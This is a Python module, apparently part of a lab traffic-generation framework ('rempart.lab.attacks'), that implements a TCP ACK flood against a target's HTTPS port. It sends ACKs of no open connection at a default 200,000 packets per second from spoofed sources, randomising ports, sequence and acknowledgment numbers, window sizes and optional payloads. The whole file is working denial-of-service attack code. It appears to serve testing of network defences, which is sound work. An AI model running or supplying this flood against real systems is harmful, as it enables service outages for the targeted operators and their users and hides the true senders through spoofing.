"""ACK flood: packets that pretend to belong to connections which were never opened.

A listener must look every one up, and with SYN cookies on it must check whether it ends a handshake.
"""

from __future__ import annotations

import numpy as np
from pydantic import Field

from rempart.lab.attacks.contract import Attack, AttackParameters, Order, Sources, Unit
from rempart.lab.attacks.ip_frames import TCP, Packet, any_ports, flood
from rempart.lab.attacks.packets import BATCH, Frames, put16, put32
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender

ACK, PUSH = 0x10, 0x08
TCP_HEADER = 20


class AckFlood(AttackParameters):
    """ACKs, bare or with something in them."""

    payload: int = Field(default=0, ge=0, le=1_400)
    """Octets after the header; with some PSH is set as well."""


ACK_FLOOD = Attack(
    name="ack-flood",
    unit=Unit.PACKETS,
    summary="TCP ACKs of no connection from spoofed sources to the HTTPS port",
    defaults=AckFlood(rate=200_000, sources=Sources.SPOOFED),
    sender=lambda order: own_sender(order, "ack_flood", packets=True),
)


def packet(order: Order, parameters: AckFlood) -> Packet:
    """An ACK (RFC 9293)."""
    flags = ACK | (PUSH if parameters.payload else 0)
    header = (
        bytes(2) + order.target.https_port.to_bytes(2, "big") + bytes(8) + bytes((0x50, flags)) + bytes(6)
    )

    def renew(frames: Frames, at: int, chosen: np.random.Generator) -> None:
        put16(frames, at, any_ports(chosen))
        for field in (4, 8):  # sequence number, acknowledgment number
            put32(frames, at + field, chosen.integers(0, 1 << 32, BATCH, dtype=np.uint32))
        put16(frames, at + 14, chosen.integers(64, 65_536, BATCH, dtype=np.uint32))
        if parameters.payload:
            size = (BATCH, parameters.payload)
            frames[:, at + TCP_HEADER :] = chosen.integers(0, 256, size, dtype=np.uint8)

    return Packet(TCP, header + bytes(parameters.payload), renew, checksum_at=16)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = AckFlood.model_validate(order.parameters)
    flood(order, parameters, tally, lambda v6: packet(order, parameters))


if __name__ == "__main__":
    run_sender(carry_out)
